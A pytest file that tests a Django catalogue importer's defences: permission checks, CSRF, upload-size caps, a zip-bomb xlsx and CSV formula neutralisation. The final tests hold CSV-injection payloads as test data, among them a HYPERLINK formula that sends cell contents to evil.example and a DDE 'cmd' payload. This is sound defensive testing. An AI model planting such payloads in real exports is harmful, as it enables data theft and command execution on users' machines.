"""The importer's three doors: who may use them, CSRF, upload size, the CSV report.

A staff account without IMPORT_CATALOG is refused at the admin page and at
``ocopProductsImport`` and nothing changes; the page keeps CSRF; an upload over the cap is
refused while it streams in; the CSV report cannot carry spreadsheet formulas.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, RequestFactory

from backend.catalog.models import Product
from backend.ocop.models import Certification
from backend.producers.models import Producer
from tests.catalog_import.conftest import (  # noqa: F401 (fixtures)
    annex_row,
    csv_bytes,
    importer_user,
    ocop_ready,
    run,
)

URL = "/admin/catalog_import/upload/"
MUTATION = """mutation($content: String!, $dryRun: Boolean) {
  ocopProductsImport(content: $content, dryRun: $dryRun) {
    count applied errors { field code message } } }"""

pytestmark = pytest.mark.django_db


def _counts() -> tuple[int, int, int]:
    return Product.objects.count(), Producer.objects.count(), Certification.objects.count()


@pytest.fixture(autouse=True)
def _plain_static(settings):
    # Admin pages link static files; tests have no collected manifest.
    settings.STORAGES = {**settings.STORAGES, "staticfiles": {
        "BACKEND": "django.contrib.staticfiles.storage.StaticFilesStorage"}}


def _upload(data: bytes, name: str = "ds.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="text/csv")


def _graphql(client: Client, content: str) -> dict:
    response = client.post("/graphql/", json.dumps({"query": MUTATION,
                                                     "variables": {"content": content}}),
                           content_type="application/json")
    assert response.status_code == 200
    return response.json()


def test_staff_without_import_catalog_are_refused_at_both_web_doors(ocop_ready, importer_user):
    data = csv_bytes([annex_row(1), annex_row(2)])
    client = Client()
    client.force_login(importer_user("nhanvien", grant=False))
    page = client.get(URL)
    assert page.status_code == 403 and "IMPORT_CATALOG" in page.content.decode()
    posted = client.post(URL, {"file": _upload(data)})
    assert posted.status_code == 403
    body = _graphql(client, data.decode())
    assert body["data"]["ocopProductsImport"] is None
    assert body["errors"][0]["extensions"]["code"] == "PERMISSION_DENIED"
    assert body["errors"][0]["extensions"]["permissions"] == ["IMPORT_CATALOG"]
    assert _counts() == (0, 0, 0)

    # The same account with the code (through a group, as operators assign it) imports.
    from django.contrib.auth.models import Group, Permission

    group = Group.objects.create(name="Biên tập danh mục")
    group.permissions.add(Permission.objects.get(codename="import_catalog"))
    client.force_login(importer_user("bientap", grant=False))
    from django.contrib.auth import get_user_model

    get_user_model().objects.get(email="bientap@example.vn").groups.add(group)
    assert client.post(URL, {"file": _upload(data)}).status_code == 200
    assert _counts() == (2, 1, 2)
    payload = _graphql(client, csv_bytes([annex_row(3)]).decode())["data"]["ocopProductsImport"]
    assert payload["applied"] and payload["count"] == 1 and _counts()[0] == 3


def test_the_upload_page_keeps_csrf(ocop_ready, importer_user):
    client = Client(enforce_csrf_checks=True)
    client.force_login(importer_user("bientap"))
    data = csv_bytes([annex_row(1)])
    assert client.post(URL, {"file": _upload(data)}).status_code == 403  # no token
    assert _counts() == (0, 0, 0)
    page = client.get(URL)
    token = page.cookies["csrftoken"].value
    response = client.post(URL, {"file": _upload(data), "csrfmiddlewaretoken": token})
    assert response.status_code == 200 and "Đã ghi vào cơ sở dữ liệu." in response.content.decode()
    assert _counts() == (1, 1, 1)


def test_an_upload_over_the_cap_is_refused_while_it_streams(ocop_ready, importer_user,
                                                            settings):
    settings.IMPORT_MAX_UPLOAD_BYTES = 50_000
    client = Client()
    client.force_login(importer_user("bientap"))
    big = csv_bytes([annex_row(n) for n in range(1, 400)])  # ≈ 100 KB
    # Over the cap, but within the declared length the page lets through to the handler.
    assert 50_000 < len(big) < 50_000 + 60_000
    response = client.post(URL, {"file": _upload(big)})
    assert response.status_code == 413
    assert "Tệp lớn hơn 48 KB" in response.content.decode()
    assert "hãy chia nhỏ danh sách" in response.content.decode() and _counts() == (0, 0, 0)


def test_a_body_declared_too_large_is_refused_before_it_is_read(ocop_ready, importer_user,
                                                                settings):
    """The page answers from Content-Length alone: not one byte of the body is read."""
    from catalog_import.views import upload_view

    class Untouchable(io.RawIOBase):
        read_calls = 0

        def read(self, *args):
            Untouchable.read_calls += 1
            raise AssertionError("the body was read")

        readline = read

    request = RequestFactory().post(URL, data=b"", content_type="multipart/form-data; boundary=x")
    request.META["CONTENT_LENGTH"] = str(settings.IMPORT_MAX_UPLOAD_BYTES * 10)
    request.META["wsgi.input"] = Untouchable()
    request._stream = Untouchable()
    request.user = importer_user("bientap")
    request.session = {}
    response = upload_view(request)
    response.render()
    assert response.status_code == 413 and Untouchable.read_calls == 0
    assert "Tệp lớn hơn 20 MB" in response.content.decode()


def test_the_mutation_caps_the_file_before_reading_it(ocop_ready, importer_user, settings):
    settings.IMPORT_MAX_UPLOAD_BYTES = 1000
    client = Client()
    client.force_login(importer_user("bientap"))
    payload = _graphql(client, csv_bytes([annex_row(n) for n in range(1, 30)]).decode())
    payload = payload["data"]["ocopProductsImport"]
    assert payload["errors"][0]["code"] == "TOO_LARGE" and not payload["applied"]
    assert _counts() == (0, 0, 0)


def test_the_command_line_door_reports_hostile_files_without_a_traceback(ocop_ready, tmp_path,
                                                                         capsys):
    from django.core.management import CommandError, call_command

    from . import import_files as files

    path = tmp_path / "bom.xlsx"
    path.write_bytes(files.xlsx_zip_bomb(150))
    with pytest.raises(CommandError):
        call_command("import", str(path), "--no-progress")
    assert "khi giải nén lớn hơn 100 MB" in capsys.readouterr().out
    assert _counts() == (0, 0, 0)


def test_console_markup_in_a_file_is_printed_as_text(ocop_ready, tmp_path, capsys):
    """rich reads "[/bold]" as markup: a product name must not end the command in a
    traceback (MarkupError) nor style the operator's terminal."""
    from django.core.management import CommandError, call_command

    path = tmp_path / "markup.csv"
    path.write_bytes(csv_bytes([annex_row(1, **{"Tên sản phẩm": "[/bold] Trà [red]đỏ",
                                                "Hạng sao": "[/] 9"})]))
    with pytest.raises(CommandError):
        call_command("import", str(path), "--no-progress")
    assert "“[/] 9”" in capsys.readouterr().out and _counts() == (0, 0, 0)


def test_the_csv_report_cannot_carry_spreadsheet_formulas(run, tmp_path):
    rows = [annex_row(1, **{"Tên sản phẩm": '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'}),
            annex_row(2, **{"Tên sản phẩm": "+cmd|' /C calc'!A0", "Chủ thể": "@SUM(1+1)"}),
            annex_row(3, **{"Tên sản phẩm": "-2+3", "Chủ thể": "\tHTX Tab"})]
    report = run(csv_bytes(rows), "cong-thuc.csv")
    out = tmp_path / "bao-cao.csv"
    report.write(str(out))
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")))
             for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")" in cells
    assert "'@SUM(1+1)" in cells


def test_one_helper_neutralises_every_csv_cell():
    from backend.core.spreadsheet import csv_writer, neutralize

    assert [neutralize(v) for v in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "Trà", 5, -5)] \
        == ["'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "Trà", 5, -5]
    out = io.StringIO()
    csv_writer(out).writerows([["=A1", "ok"]])
    assert out.getvalue().startswith("'=A1,ok")
